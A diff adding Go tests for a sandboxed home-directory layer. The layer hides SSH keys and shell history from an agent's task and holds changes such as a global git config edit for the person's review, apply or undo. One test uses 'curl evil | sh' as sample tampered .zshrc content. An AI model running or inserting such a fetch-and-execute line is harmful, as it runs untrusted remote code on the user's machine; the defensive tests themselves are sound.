@@ -1,0 +1,126 @@
+package homelayer
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func setup(t *testing.T) (home, layer, kept string) {
+	t.Helper()
+	dir := t.TempDir()
+	home = filepath.Join(dir, "home")
+	for p, c := range map[string]string{
+		".gitconfig": "[user]\n\tname = Me\n", ".zshrc": "export A=1\n", ".ssh/id_ed25519": "SECRET",
+		".config/app/settings.json": "{}", "Documents/letter.txt": "dear", ".bash_history": "ls",
+	} {
+		full := filepath.Join(home, p)
+		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	layer, kept = filepath.Join(dir, "task", "home"), filepath.Join(dir, "task", "home-kept")
+	if err := Build(layer, home); err != nil {
+		t.Fatal(err)
+	}
+	return home, layer, kept
+}
+
+func TestLayerHidesCredentialsAndLinksTheRest(t *testing.T) {
+	t.Parallel()
+	home, layer, _ := setup(t)
+	for _, p := range []string{".ssh", ".bash_history"} {
+		if _, err := os.Lstat(filepath.Join(layer, p)); !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("%s is in the layer", p)
+		}
+	}
+	if target, err := os.Readlink(filepath.Join(layer, "Documents")); err != nil || target != filepath.Join(home, "Documents") {
+		t.Errorf("Documents = %q, %v; want a link to the person's own", target, err)
+	}
+	if info, err := os.Lstat(filepath.Join(layer, ".config/app/settings.json")); err != nil || !info.Mode().IsRegular() {
+		t.Errorf(".config was not copied: %v", err)
+	}
+}
+
+// git config --global inside a task writes the layer's .gitconfig; the real
+// one is untouched, the change waits for review, and apply/undo work.
+func TestGitConfigGlobalIsCaughtForReview(t *testing.T) {
+	t.Parallel()
+	home, layer, kept := setup(t)
+	cmd := exec.Command("git", "config", "--global", "user.name", "Agent")
+	cmd.Env = append(os.Environ(), "HOME="+layer, "XDG_CONFIG_HOME="+filepath.Join(layer, ".config"))
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("git config: %v\n%s", err, out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); !strings.Contains(string(b), "Me") || strings.Contains(string(b), "Agent") {
+		t.Fatalf("the real ~/.gitconfig changed: %q", b)
+	}
+	ch, err := Changes(layer)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d := cmp.Diff([]Change{{Path: ".gitconfig", Kind: "modify", RunsAtStart: true}}, ch); d != "" {
+		t.Fatalf("changes (-want +got):\n%s", d)
+	}
+	if err := Apply(layer, kept, ".gitconfig"); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); !strings.Contains(string(b), "Agent") {
+		t.Fatalf("apply did not write the change: %q", b)
+	}
+	if ch, _ := Changes(layer); len(ch) != 0 {
+		t.Fatalf("after apply still pending: %v", ch)
+	}
+	if p, err := Undo(layer, kept); err != nil || p != ".gitconfig" {
+		t.Fatalf("undo = %q, %v", p, err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(home, ".gitconfig")); strings.Contains(string(b), "Agent") || !strings.Contains(string(b), "Me") {
+		t.Fatalf("undo did not restore ~/.gitconfig: %q", b)
+	}
+	if _, err := Undo(layer, kept); !errors.Is(err, ErrNothingToUndo) {
+		t.Fatalf("second undo = %v", err)
+	}
+}
+
+func TestApplyRefusesWhenThePersonChangedTheirFile(t *testing.T) {
+	t.Parallel()
+	home, layer, kept := setup(t)
+	if err := os.WriteFile(filepath.Join(layer, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(home, ".zshrc"), []byte("export A=2\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := Apply(layer, kept, ".zshrc"); !errors.Is(err, ErrPersonChanged) {
+		t.Fatalf("apply = %v, want ErrPersonChanged", err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(home, ".zshrc")); string(b) != "export A=2\n" {
+		t.Fatalf("a refused apply wrote %q", b)
+	}
+}
+
+func TestNewFileAtTheTopAndDiscard(t *testing.T) {
+	t.Parallel()
+	_, layer, _ := setup(t)
+	if err := os.WriteFile(filepath.Join(layer, ".newtoolrc"), []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ch, _ := Changes(layer)
+	if len(ch) != 1 || ch[0].Kind != "add" || ch[0].Path != ".newtoolrc" {
+		t.Fatalf("changes = %v", ch)
+	}
+	if err := Discard(layer); err != nil {
+		t.Fatal(err)
+	}
+	if ch, _ := Changes(layer); len(ch) != 0 {
+		t.Fatalf("after discard: %v", ch)
+	}
+}
